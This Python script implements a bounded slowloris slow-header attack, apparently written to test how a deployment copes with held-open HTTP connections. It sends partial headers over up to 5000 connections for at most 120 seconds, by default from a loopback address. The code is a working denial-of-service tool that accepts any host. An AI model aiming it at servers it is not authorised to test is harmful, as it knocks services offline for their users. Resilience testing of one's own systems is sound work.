#!/usr/bin/env python3
"""slowloris.py — a bounded slow-header attack from one source address, for the deploy tests only.

usage: slowloris.py HOST PORT [--source ADDR] [--conns N] [--interval S]
                    [--duration S] [--path P]

Opens up to N TCP connections to HOST:PORT, each bound to the source
address ADDR (default 127.0.0.2: on Linux every 127.x address is local, so
this is a second client on the loopback), sends a request line and one
header, then every S seconds one more partial header line on each open
connection, never the blank line that ends the headers. Connections the
server closes are counted and opened again in the next round, so the
number held stays near N. Stops by itself after DURATION seconds (at most
120), closing everything; SIGTERM stops it at once.

Prints one line per round to stderr ("open N, refused/closed M") and a
last line "slowloris: held at most N connections".
"""
import argparse
import errno
import resource
import signal
import socket
import sys
import time


def raise_fd_limit(want):
    """Lifts the soft RLIMIT_NOFILE towards want + 64 (never above the hard limit)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = want + 64
    if hard != resource.RLIM_INFINITY:
        target = min(target, hard)
    if target > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 64


def open_one(args):
    """A connected socket that has sent the start of a request, or None."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.bind((args.source, 0))
        s.settimeout(1.0)
        s.connect((args.host, args.port))
        s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: slowloris-test\r\n"
                   % (args.path, args.host)).encode())
        s.setblocking(False)
        return s
    except OSError:
        s.close()
        return None


def alive(s, line):
    """Sends one more header line; False when the server has closed the connection."""
    try:
        # Anything readable means the server answered (408, 403) or closed.
        try:
            if s.recv(1, socket.MSG_PEEK) is not None:
                return False
        except BlockingIOError:
            pass
        s.send(line)
        return True
    except OSError as e:
        if e.errno in (errno.EAGAIN, errno.EWOULDBLOCK):
            return True
        return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--source", default="127.0.0.2")
    ap.add_argument("--conns", type=int, default=1500)
    ap.add_argument("--interval", type=float, default=5.0)
    ap.add_argument("--duration", type=float, default=35.0)
    ap.add_argument("--path", default="/")
    args = ap.parse_args()
    args.conns = max(1, min(args.conns, 5000))
    args.duration = max(1.0, min(args.duration, 120.0))
    args.conns = min(args.conns, raise_fd_limit(args.conns))

    socks = []
    stop = [False]
    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))
    signal.signal(signal.SIGINT, lambda *_: stop.__setitem__(0, True))
    end = time.monotonic() + args.duration
    peak = 0
    rnd = 0
    try:
        while not stop[0] and time.monotonic() < end:
            rnd += 1
            line = ("X-Slow-%d: %d\r\n" % (rnd, rnd)).encode()
            before = len(socks)
            socks = [s for s in socks if alive(s, line) or s.close()]
            dropped = before - len(socks)
            failed = 0
            # Top up to N, but give up on this round after 2 s of opening so
            # the header lines keep their rhythm.
            t0 = time.monotonic()
            while len(socks) < args.conns and not stop[0] and time.monotonic() - t0 < 2.0:
                s = open_one(args)
                if s is None:
                    failed += 1
                    if failed > 50:
                        break
                    continue
                socks.append(s)
            peak = max(peak, len(socks))
            print("slowloris: round %d: open %d, closed by the server %d, "
                  "connect failures %d" % (rnd, len(socks), dropped, failed),
                  file=sys.stderr, flush=True)
            wake = min(end, time.monotonic() + args.interval)
            while not stop[0] and time.monotonic() < wake:
                time.sleep(0.1)
    finally:
        for s in socks:
            s.close()
    print("slowloris: held at most %d connections" % peak, file=sys.stderr, flush=True)


if __name__ == "__main__":
    main()
